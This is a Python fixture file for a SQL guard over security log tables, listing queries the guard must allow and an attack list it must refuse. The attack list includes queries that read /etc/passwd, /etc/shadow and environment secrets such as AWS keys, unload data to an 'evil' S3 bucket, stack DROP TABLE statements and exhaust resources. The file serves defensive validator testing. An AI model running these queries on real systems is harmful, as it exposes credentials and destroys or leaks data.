"""SQL that the guard must let through, and SQL that it must refuse, with the code."""

from __future__ import annotations

ALLOWED = """
SELECT * FROM aws_cloudtrail
SELECT 1
SELECT 1 AS one, 'x' AS two UNION ALL SELECT 2, 'y' ORDER BY one
SELECT EventName, "actor_user" FROM AWS_CloudTrail WHERE event_date >= '2026-03-01'
SELECT count(*) FROM aws_cloudtrail WHERE event_date BETWEEN '2026-03-01' AND '2026-03-02'
SELECT count(*) AS n, count(DISTINCT src_ip) AS ips FROM aws_cloudtrail WHERE outcome <> 'success'
SELECT eventname, count(*) AS n FROM aws_cloudtrail GROUP BY eventname ORDER BY n DESC, eventname LIMIT 5
SELECT awsregion, eventname, count(*) FROM aws_cloudtrail GROUP BY 1, 2 ORDER BY 1, 2
SELECT actor_user, outcome, count(*) FROM aws_cloudtrail GROUP BY ROLLUP (actor_user, outcome) ORDER BY 1, 2
SELECT actor_user, outcome, grouping(outcome) AS g, count(*) FROM aws_cloudtrail GROUP BY GROUPING SETS ((actor_user), (outcome), ()) ORDER BY 1, 2
SELECT event_time, eventname FROM aws_cloudtrail WHERE event_time >= TIMESTAMP '2026-03-01 09:00:00' AND event_time < TIMESTAMP '2026-03-02' ORDER BY event_time DESC
SELECT date_diff('minute', min(event_time), max(event_time)) AS minutes FROM aws_vpcflow
SELECT eventname FROM aws_cloudtrail WHERE requestparameters LIKE '%0.0.0.0/0%' OR responseelements LIKE '%::/0%'
SELECT lower(eventname), upper(awsregion), length(useragent), substr(eventname, 1, 3), split_part(useridentity_arn, ':', 5), trim(useragent) FROM aws_cloudtrail ORDER BY 1, 2
SELECT coalesce(errorcode, 'none') AS e, nullif(awsregion, 'us-east-1') AS r, if(readonly, 'read', 'write') AS k FROM aws_cloudtrail ORDER BY 1, 2
SELECT CASE outcome WHEN 'failure' THEN 1 ELSE 0 END AS failed FROM okta_system ORDER BY failed
SELECT count(*) FILTER (WHERE outcome = 'failure') AS failed, 100.0 * count(*) FILTER (WHERE outcome = 'failure') / count(*) AS percent FROM aws_cloudtrail
SELECT round(risk_score, 2), abs(risk_score), greatest(risk_score, 0.5), risk_score IS NULL, risk_score IS DISTINCT FROM 0.1 FROM okta_system ORDER BY 1
SELECT actor_user FROM aws_cloudtrail UNION SELECT actor_user FROM okta_system ORDER BY actor_user
SELECT src_ip FROM aws_cloudtrail INTERSECT SELECT src_ip FROM aws_vpcflow
SELECT src_ip FROM okta_system EXCEPT SELECT src_ip FROM aws_cloudtrail
(SELECT event_id FROM aws_cloudtrail ORDER BY event_time LIMIT 1) UNION ALL (SELECT event_id FROM okta_system ORDER BY event_time LIMIT 1)
(SELECT event_id FROM aws_cloudtrail ORDER BY event_id) LIMIT 2
SELECT c.eventname, f.dst_ip FROM aws_cloudtrail c JOIN aws_vpcflow f ON c.src_ip = f.src_ip AND f.event_time < c.event_time ORDER BY 1, 2
SELECT c.eventname, f.dst_ip FROM aws_cloudtrail c, aws_vpcflow f WHERE c.src_ip = f.src_ip AND f.bytes > 100 ORDER BY 1, 2
SELECT actor_user, count(*) FROM aws_cloudtrail JOIN okta_system USING (actor_user) GROUP BY actor_user
SELECT c.event_id FROM (aws_cloudtrail c JOIN okta_system o ON o.actor_user = c.actor_user) JOIN aws_vpcflow f ON f.src_ip = c.src_ip ORDER BY 1
SELECT c.event_id FROM aws_cloudtrail c LEFT JOIN okta_system o ON o.actor_user = c.actor_user WHERE o.event_id IS NULL ORDER BY 1
SELECT c.event_id FROM aws_cloudtrail c JOIN okta_system o ON (c.src_ip = o.src_ip OR c.actor_user = o.actor_user) ORDER BY 1
SELECT a.event_id, b.event_id FROM aws_cloudtrail a JOIN aws_cloudtrail b ON a.actor_user = b.actor_user AND a.event_time < b.event_time JOIN okta_system o ON o.actor_user = b.actor_user ORDER BY 1, 2
SELECT eventname FROM aws_cloudtrail c WHERE EXISTS (SELECT 1 FROM aws_vpcflow f WHERE f.src_ip = c.src_ip AND f.action = 'REJECT') ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE src_ip IN (SELECT src_ip FROM aws_vpcflow WHERE dst_port = 22) ORDER BY 1
SELECT eventname, (SELECT count(*) FROM okta_system o WHERE o.actor_user = c.actor_user) AS okta FROM aws_cloudtrail c ORDER BY 1, 2
SELECT dst_ip FROM aws_vpcflow WHERE bytes > (SELECT avg(bytes) FROM aws_vpcflow)
SELECT dst_ip FROM aws_vpcflow WHERE bytes >= ALL (SELECT bytes FROM aws_vpcflow) OR dst_port = ANY (SELECT dst_port FROM aws_vpcflow WHERE action = 'REJECT') ORDER BY 1
SELECT f.dst_ip, f.bytes / s.mean AS times FROM aws_vpcflow f, (SELECT avg(bytes) AS mean FROM aws_vpcflow) s ORDER BY 1, 2
WITH total AS (SELECT count(*) AS n FROM aws_cloudtrail) SELECT eventname, count(*) * 1.0 / max(total.n) AS share FROM aws_cloudtrail CROSS JOIN total GROUP BY eventname ORDER BY 1, 2
WITH failed AS (SELECT actor_user, event_time FROM aws_cloudtrail WHERE outcome = 'failure'), good AS (SELECT actor_user, event_time FROM aws_cloudtrail WHERE outcome = 'success') SELECT g.actor_user, count(*) AS tries FROM good g JOIN failed f ON f.actor_user = g.actor_user AND f.event_time < g.event_time AND date_diff('minute', f.event_time, g.event_time) <= 30 GROUP BY g.actor_user
WITH a AS (SELECT * FROM aws_cloudtrail WHERE event_date = '2026-03-01'), b AS (SELECT actor_user, count(*) AS n FROM a GROUP BY actor_user) SELECT * FROM b WHERE n >= 2
SELECT * FROM (WITH inner_one AS (SELECT src_ip FROM aws_vpcflow) SELECT DISTINCT src_ip FROM inner_one) AS q
SELECT actor_user, event_time, lag(event_time) OVER (PARTITION BY actor_user ORDER BY event_time) AS before FROM aws_cloudtrail ORDER BY 1, 2
SELECT src_ip, rank() OVER w, dense_rank() OVER w, ntile(2) OVER w, first_value(dst_port) OVER w FROM aws_vpcflow WINDOW w AS (PARTITION BY src_ip ORDER BY bytes) ORDER BY 1, 2
SELECT DISTINCT actor_user, awsregion FROM aws_cloudtrail ORDER BY 1, 2
SELECT actor_user, outcome FROM authentication WHERE event_date >= '2026-03-03' ORDER BY 1, 2
SELECT a.actor_user, count(*) FROM authentication a JOIN aws_vpcflow f ON f.src_ip = a.src_ip GROUP BY a.actor_user
SELECT try_cast(errorcode AS BIGINT) AS n, CAST(dst_port AS VARCHAR) FROM aws_cloudtrail JOIN aws_vpcflow USING (src_ip) ORDER BY 1, 2
SELECT eventname /* why not */ FROM aws_cloudtrail -- all of it
SELECT eventname AS "Event; DROP TABLE x", 'UNION SELECT * FROM read_csv(''/etc/passwd'')' AS note FROM aws_cloudtrail ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE actor_user = ''' OR ''1''=''1'
SELECT eventname FROM aws_cloudtrail WHERE awsregion NOT IN ('us-east-1', 'eu-west-2') AND NOT (readonly OR errorcode IS NOT NULL)
SELECT max(event_time) - min(event_time) AS span FROM aws_vpcflow
SELECT * FROM aws_cloudtrail LIMIT 10
SELECT eventname, count(*) AS n FROM aws_cloudtrail GROUP BY 1 HAVING count(*) > 1 ORDER BY 2 DESC
SELECT event_time FROM aws_cloudtrail WHERE event_time >= TIMESTAMP '2026-03-01 00:00:00' + INTERVAL '2' HOUR ORDER BY 1
SELECT eventname FROM aws_cloudtrail WHERE event_time > now() - INTERVAL '7' DAY
SELECT eventname FROM aws_cloudtrail WHERE event_date >= CAST(current_date - INTERVAL '7' DAY AS varchar)
SELECT date_trunc('hour', event_time) AS hour, count(*) AS n FROM aws_vpcflow GROUP BY 1 ORDER BY hour
SELECT date_format(event_time, '%Y-%m-%d %H:00') AS h, date_format(event_time, '%W'), extract(hour FROM event_time), day_of_week(event_time) FROM aws_vpcflow ORDER BY h
SELECT to_unixtime(event_time), CAST(event_time AS date), last_day_of_month(event_time), event_time AT TIME ZONE 'UTC' FROM okta_system ORDER BY 1
SELECT json_extract_scalar(requestparameters, '$.bucketName') AS bucket FROM aws_cloudtrail WHERE json_extract_scalar(requestparameters, '$.bucketName') = 'logs'
SELECT json_extract_scalar(requestparameters, '$.rules[0].cidr') AS cidr, CAST(json_extract_scalar(requestparameters, '$.rules[0].port') AS integer) AS port FROM aws_cloudtrail ORDER BY 1, 2
SELECT json_array_length(json_extract(requestparameters, '$.tags')) AS tags FROM aws_cloudtrail ORDER BY 1
SELECT json_extract_scalar(item, '$.type') AS kind FROM okta_system CROSS JOIN UNNEST(CAST(json_extract(target, '$') AS array(json))) AS t (item) ORDER BY kind
SELECT o.event_id, tag FROM okta_system o CROSS JOIN UNNEST(split(o.eventtype, '.')) AS parts (tag) ORDER BY 1, 2
SELECT eventname FROM aws_cloudtrail WHERE lower(useragent) LIKE 'aws-cli%' OR useragent LIKE 'it''s; --odd'
SELECT eventname FROM aws_cloudtrail WHERE regexp_like(useridentity_arn, 'assumed-role/[a-z]+/')
SELECT regexp_extract(useridentity_arn, ':([0-9]{12}):', 1) AS account, regexp_replace(useridentity_arn, '[0-9]', 'N') AS shape FROM aws_cloudtrail ORDER BY 1, 2
SELECT CASE WHEN dst_port = 22 THEN 'ssh' WHEN dst_port IN (80, 443) THEN 'web' ELSE 'other' END AS kind, sum(bytes) FROM aws_vpcflow GROUP BY 1 ORDER BY kind
SELECT approx_percentile(bytes, 0.95), round(stddev(bytes), 2), max(packets) FROM aws_vpcflow
SELECT listagg(DISTINCT eventname, ', ') WITHIN GROUP (ORDER BY eventname) AS names, array_agg(eventname ORDER BY event_time) AS every_one FROM aws_cloudtrail
SELECT max_by(eventname, event_time) AS latest, min_by(eventname, event_time) AS first_one, any_value(outcome) IS NULL AS missing, approx_distinct(actor_user) AS users, bool_or(readonly) AS some_read FROM aws_cloudtrail
SELECT eventname FROM aws_cloudtrail WHERE contains('10.0.0.0/8', TRY_CAST(src_ip AS ipaddress)) ORDER BY 1
SELECT dst_ip, bytes / 1024 AS kb, bytes % 7, -bytes, bytes * 2 + 1, (bytes + 1) * 2, bitwise_and(bytes, 255) FROM aws_vpcflow ORDER BY bytes
SELECT c.event_id FROM aws_cloudtrail c WHERE EXISTS (SELECT 1 FROM okta_system o WHERE lower(o.actor_user) = lower(c.actor_user)) ORDER BY 1
SELECT event_id FROM aws_cloudtrail c WHERE NOT EXISTS (SELECT 1 FROM okta_system o WHERE o.actor_user = c.actor_user) ORDER BY 1
SELECT actor_user, eventname FROM (SELECT actor_user, eventname, row_number() OVER (PARTITION BY actor_user ORDER BY event_time DESC) AS rn FROM aws_cloudtrail) AS q WHERE rn = 1 ORDER BY 1, 2
SELECT event_time, count(*) OVER (ORDER BY event_time RANGE BETWEEN INTERVAL '1' HOUR PRECEDING AND CURRENT ROW) AS hour FROM aws_vpcflow ORDER BY event_time
SELECT transform(split(eventsource, '.'), part -> upper(part))[1] AS service, contains(split(eventsource, '.'), 's3') AS s3 FROM aws_cloudtrail ORDER BY 1, 2
SELECT filter(split(eventsource, '.'), part -> part <> 'com') AS parts, cardinality(split(eventsource, '.')) AS n FROM aws_cloudtrail ORDER BY 2
SELECT to_hex(md5(to_utf8(actor_user))), to_hex(sha256(to_utf8(actor_user))), url_decode('a%20b'), to_base64(to_utf8(actor_user)), chr(65), levenshtein_distance(actor_user, 'adam') FROM okta_system
SELECT strpos(useragent, 'cli') > 0, starts_with(useragent, 'aws'), substr(useragent, -2) FROM aws_cloudtrail ORDER BY 1, 2, 3
SELECT event_id FROM aws_cloudtrail ORDER BY event_id OFFSET 1 LIMIT 2
"""

ATTACKS = r"""
not_select | DROP TABLE aws_cloudtrail
not_select | DELETE FROM aws_cloudtrail
not_select | UPDATE aws_cloudtrail SET raw = ''
not_select | INSERT INTO aws_cloudtrail SELECT * FROM aws_cloudtrail
not_select | CREATE TABLE x AS SELECT * FROM aws_cloudtrail
not_select | CREATE OR REPLACE VIEW aws_cloudtrail AS SELECT 1
not_select | CREATE MACRO lower(x) AS 1
not_select | COPY aws_cloudtrail TO 'lake/x.csv'
not_select | COPY (SELECT 1) TO '/tmp/x'
not_select | EXPORT DATABASE 'lake/x'
not_select | IMPORT DATABASE 'lake/x'
not_select | ATTACH '/tmp/x.db' AS x
not_select | DETACH memory
not_select | INSTALL httpfs
not_select | LOAD httpfs
not_select | PRAGMA database_list
not_select | SET memory_limit = '100GB'
not_select | RESET threads
not_select | SET VARIABLE x = 1
not_select | CALL pragma_version()
not_select | EXPLAIN ANALYZE SELECT 1
not_select | DESCRIBE aws_cloudtrail
not_select | SUMMARIZE aws_cloudtrail
not_select | SHOW ALL TABLES
not_select | CHECKPOINT
not_select | BEGIN
not_select | USE memory
not_select | PREPARE p AS SELECT 1
not_select | EXECUTE p
not_select | PIVOT aws_cloudtrail ON eventname USING count(*)
not_select | UNLOAD (SELECT * FROM aws_cloudtrail) TO 's3://evil/x' WITH (format = 'PARQUET')
not_select | USING EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARCHAR LAMBDA 'evil' SELECT f(raw) FROM aws_cloudtrail
not_select | MSCK REPAIR TABLE aws_cloudtrail
not_select | WITH x AS (INSERT INTO aws_cloudtrail SELECT 1 RETURNING *) SELECT * FROM x
not_select | -- SELECT
not_select | how many logins failed
many_statements | SELECT 1; DROP TABLE aws_cloudtrail
many_statements | SELECT 1; SELECT 2
many_statements | SELECT 1 /* ; */ ; -- x{n}COPY aws_cloudtrail TO 'x'
into | SELECT * FROM aws_cloudtrail INTO OUTFILE '/tmp/x'
into | SELECT * FROM aws_cloudtrail INTO/**/OUTFILE '/tmp/x'
parse | SELECT * FROM aws_cloudtrail WHERE
parse | SELECT * FROM U&"\0061ws_cloudtrail"
parse | SELECT 'unclosed
parse | SELECT /* unclosed
into | SELECT eventname INTO x FROM aws_cloudtrail
lock | SELECT eventname FROM aws_cloudtrail FOR UPDATE
recursive | WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
recursive | SELECT * FROM (WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM r) SELECT n FROM r) q
sampling | SELECT * FROM aws_cloudtrail TABLESAMPLE 10 PERCENT
sampling | SELECT * FROM aws_cloudtrail USING SAMPLE 10
time_travel | SELECT * FROM aws_cloudtrail FOR TIMESTAMP AS OF TIMESTAMP '2020-01-01 00:00:00'
time_travel | SELECT * FROM aws_cloudtrail FOR VERSION AS OF 5
time_travel | SELECT * FROM aws_cloudtrail AT (VERSION => 3)
function | SELECT * FROM read_csv('/etc/passwd')
function | SELECT * FROM read_csv_auto('/etc/passwd')
function | SELECT * FROM read_parquet('lake/*/*/*.parquet')
function | SELECT * FROM parquet_scan('x')
function | SELECT * FROM parquet_metadata('x')
function | SELECT * FROM read_text('/proc/self/environ')
function | SELECT * FROM read_blob('/etc/shadow')
function | SELECT * FROM read_json('/etc/passwd')
function | SELECT * FROM glob('/*')
function | SELECT * FROM sniff_csv('/etc/passwd')
function | SELECT * FROM query('SELECT 1')
function | SELECT * FROM query_table('aws_cloudtrail')
function | SELECT * FROM json_execute_serialized_sql('{}')
function | SELECT json_serialize_sql('SELECT 1')
function | SELECT * FROM duckdb_settings()
function | SELECT * FROM duckdb_secrets()
function | SELECT * FROM pragma_table_info('aws_cloudtrail')
function | SELECT * FROM arrow_scan(1, 2, 3)
function | SELECT * FROM which_secret('s3://x', 's3')
function | SELECT getenv('AWS_SECRET_ACCESS_KEY')
function | SELECT eventname FROM aws_cloudtrail ORDER BY getenv('HOME')
function | SELECT eventname FROM aws_cloudtrail GROUP BY eventname HAVING count(getenv('HOME')) > 0
function | SELECT eventname FROM aws_cloudtrail c JOIN okta_system o ON c.actor_user = o.actor_user AND getenv('X') = 'y'
function | SELECT CASE WHEN EXISTS (SELECT getvariable('x')) THEN 1 END FROM aws_cloudtrail
function | SELECT current_setting('temp_directory')
function | SELECT version()
function | SELECT current_user
column | SELECT session_user FROM aws_cloudtrail
function | SELECT current_database()
function | SELECT sleep_ms(100000)
function | SELECT pg_sleep(100)
function | SELECT write_log('x')
function | SELECT setseed(0.5), random() FROM aws_cloudtrail
function | SELECT list_aggregate([1], 'sum') FROM aws_cloudtrail
function | SELECT nextval('s')
function | SELECT repeat(raw, 1000000000) FROM aws_cloudtrail
argument | SELECT lpad(raw, 1000000000, 'x') FROM aws_cloudtrail
function | SELECT printf('%999999999d', 1) FROM aws_cloudtrail
function | SELECT format('{:>999999999}', raw) FROM aws_cloudtrail
function | SELECT range(1000000000) FROM aws_cloudtrail
function | SELECT * FROM range(100000000000)
function | SELECT * FROM generate_series(1, 100000000000)
function | SELECT count(*) FROM aws_cloudtrail, generate_series(1, 100000000000)
parse | SELECT unnest(generate_series(1, 100000000000)) FROM aws_cloudtrail
function | SELECT * FROM TABLE(system.query('x'))
function | SELECT "read_text"('/etc/passwd')
function | SELECT COLUMNS('.*') FROM aws_cloudtrail
function | SELECT no_such_function(eventname) FROM aws_cloudtrail
function | SELECT * FROM json_each('[1]')
function | SELECT * FROM repeat_row(1, num_rows = 100000000)
syntax | SELECT system.main.getenv('HOME')
syntax | SELECT main.lower(eventname) FROM aws_cloudtrail
syntax | SELECT eventname.getenv() FROM aws_cloudtrail
function | SELECT * FROM system.query('x') AS t
table | SELECT * FROM '/etc/passwd'
table | SELECT * FROM "/etc/passwd"
table | SELECT * FROM '/var/task/secrets.parquet'
table | SELECT * FROM 'https://evil.example/x.csv'
table | SELECT * FROM information_schema.tables
table | SELECT * FROM pg_catalog.pg_class
table | SELECT * FROM sqlite_master
table | SELECT * FROM duckdb_tables
table | SELECT * FROM duckdb_secrets
table | SELECT * FROM main.aws_cloudtrail
table | SELECT * FROM memory.main.aws_cloudtrail
table | SELECT * FROM "lambda:cat".db.t
table | SELECT * FROM awsdatacatalog.other_db.aws_cloudtrail
table | SELECT * FROM "aws_cloudtrail$partitions"
table | SELECT * FROM aws_clodtrail
table | SELECT 1 FROM aws_cloudtrail WHERE EXISTS (SELECT 1 FROM sqlite_master)
table | SELECT (SELECT count(*) FROM pg_class) FROM aws_cloudtrail
table | SELECT * FROM (WITH pg_class AS (SELECT 1 AS a) SELECT * FROM pg_class) q, pg_class
table | WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS x) SELECT * FROM a
table | WITH self AS (SELECT * FROM self) SELECT * FROM self
table | SELECT eventname FROM aws_cloudtrail UNION ALL SELECT sql FROM sqlite_master
not_select | TABLE secrets
cte_shadows_table | WITH aws_cloudtrail AS (SELECT 1 AS eventname) SELECT * FROM aws_cloudtrail
cte_shadows_table | WITH "AWS_CloudTrail" AS (SELECT 1 AS eventname) SELECT * FROM aws_cloudtrail
column | SELECT nope FROM aws_cloudtrail
column | SELECT aws_cloudtrail.nope FROM aws_cloudtrail
column | SELECT rowid FROM aws_cloudtrail
column | SELECT filename FROM aws_cloudtrail
column | SELECT eventname FROM aws_cloudtrail WHERE actor_user = "ada"
column | SELECT outcome FROM aws_cloudtrail c JOIN okta_system o ON c.actor_user = o.actor_user
column | SELECT aws_cloudtrail FROM aws_cloudtrail
parse | SELECT #1 FROM aws_cloudtrail
column | SELECT x.eventname FROM aws_cloudtrail
column | SELECT event_id FROM okta_system WHERE EXISTS (SELECT nope FROM aws_vpcflow)
invented_rows | VALUES (1), (2)
invented_rows | SELECT * FROM (VALUES ('root', '2026-03-01')) AS t(a, b)
invented_rows | SELECT eventname FROM aws_cloudtrail UNION ALL VALUES ('made up')
parse | SELECT unnest([1, 2, 3]) FROM aws_cloudtrail
invented_rows | SELECT * FROM unnest([1, 2, 3]) AS t(a)
cartesian_join | SELECT count(*) FROM aws_cloudtrail a, aws_vpcflow b
cartesian_join | SELECT count(*) FROM aws_cloudtrail a CROSS JOIN aws_vpcflow b
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON 1 = 1
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON true
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip <> b.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = b.src_ip OR 1 = 1
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON NOT a.src_ip = b.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = 'x' AND b.src_ip = 'x'
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN aws_vpcflow b ON a.src_ip = a.src_ip
cartesian_join | SELECT count(*) FROM aws_cloudtrail a JOIN okta_system o ON a.actor_user = o.actor_user JOIN aws_vpcflow f ON true
cartesian_join | SELECT count(*) FROM aws_cloudtrail WHERE EXISTS (SELECT 1 FROM aws_vpcflow a, aws_vpcflow b)
syntax | FROM aws_cloudtrail a JOIN aws_vpcflow b ON 1 = 1
syntax | FROM aws_cloudtrail a, aws_vpcflow b SELECT count(*)
cartesian_join | SELECT count(*) FROM (aws_cloudtrail a CROSS JOIN aws_vpcflow b)
cartesian_join | SELECT count(*) FROM (aws_cloudtrail a JOIN aws_vpcflow b ON true) JOIN okta_system o ON o.src_ip = a.src_ip
join_kind | SELECT * FROM aws_cloudtrail NATURAL JOIN okta_system
join_kind | SELECT * FROM aws_cloudtrail a ASOF JOIN okta_system b ON a.actor_user = b.actor_user AND a.event_time >= b.event_time
join_kind | SELECT a.event_id FROM aws_cloudtrail a POSITIONAL JOIN okta_system b
lateral | SELECT c.eventname FROM aws_cloudtrail c, LATERAL (SELECT * FROM aws_vpcflow f WHERE f.src_ip = c.src_ip) x
pivot | SELECT * FROM aws_cloudtrail PIVOT (count(*) FOR outcome IN ('success', 'failure'))
parameter | SELECT eventname FROM aws_cloudtrail WHERE actor_user = ?
parameter | SELECT eventname FROM aws_cloudtrail WHERE actor_user = $who
limit | SELECT eventname FROM aws_cloudtrail LIMIT (SELECT 5)
limit | SELECT eventname FROM aws_cloudtrail LIMIT 10%
type | SELECT CAST(actor_user AS no_such_type) FROM aws_cloudtrail
"""


def allowed() -> list[str]:
    """Return the queries that must pass, one a line."""
    return [line for line in ALLOWED.splitlines() if line]


def attacks() -> list[tuple[str, str]]:
    """Return (code, SQL); `{n}` stands for a line break."""
    pairs = (line.split(" | ", 1) for line in ATTACKS.splitlines() if line)
    return [(code.strip(), sql.replace("{n}", "\n")) for code, sql in pairs]
